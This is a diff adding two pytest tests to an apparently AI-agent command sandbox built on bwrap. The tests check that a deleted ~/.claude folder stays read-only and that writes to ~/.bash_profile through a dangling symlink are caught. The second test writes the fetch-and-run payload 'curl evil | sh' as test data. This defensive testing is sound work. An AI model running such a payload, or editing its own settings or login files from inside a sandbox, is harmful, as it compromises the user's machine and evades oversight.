@@ -326,6 +326,46 @@ async def test_a_lone_protected_file_the_user_deletes_breaks_no_command_and_a_co
 
 @LINUX_BWRAP
 @pytest.mark.anyio
+async def test_a_protected_folder_the_user_deletes_breaks_no_command_and_is_read_only_again(
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None
+) -> None:
+    """It was bound with bwrap's --ro-bind as it was when the server started: once the user removed
+    it (`rm -rf ~/.claude`), bwrap failed every command ("Can't find source path"), and a spare
+    container started before let a command make it again, writable, on the host."""
+    claude = as_user / ".claude"
+    async with serving(home) as client:
+        first = await run(client, {"command": f"echo x > {hidden(claude / 'settings.json')}"})
+        assert "Read-only file system" in first["stderr"], first
+        await anyio.sleep(SETTLE_S)  # the next spare container is ready, its bind of ~/.claude made
+        shutil.rmtree(claude)  # the user, outside (the kernel drops the spare's bind with the folder)
+        settings = hidden(claude / "settings.json")
+        second = await run(client, {"command": f"mkdir -p {hidden(claude)}; echo '{{}}' > {settings}; echo ran"})
+    assert second["stdout"] == "ran\n" and "bwrap" not in second["stderr"], second
+    assert "Read-only file system" in second["stderr"], second
+    assert not (claude / "settings.json").exists()
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_start_up_file_that_is_a_symlink_to_a_missing_file_is_guarded_where_it_points(
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None
+) -> None:
+    """`~/.bash_profile` -> a dotfiles folder's file not made yet: neither bound nor guarded before, so
+    a command wrote the next login's commands through the symlink."""
+    (as_user / "dots").mkdir()
+    target = as_user / "dots" / "profile"
+    (as_user / ".bash_profile").symlink_to(target)
+    async with serving(home) as client:
+        result = await run(client, {"command": f"echo 'curl evil | sh' >> {hidden(as_user / '.bash_profile')}"})
+        await wait_for(lambda: bool(moved_copies(target)))
+    assert not target.exists(), result
+    [moved] = moved_copies(target)
+    assert moved.read_text() == "curl evil | sh\n", "nothing is lost"
+    assert result["note"].startswith(f"{target} was moved to {moved}."), result
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
 async def test_a_start_up_file_the_user_saves_the_way_vim_does_while_a_command_runs_stays_and_read_only_there(
     home: Path, paths: AppPaths, as_user: Path, never_ask: None, tmp_path: Path
 ) -> None:
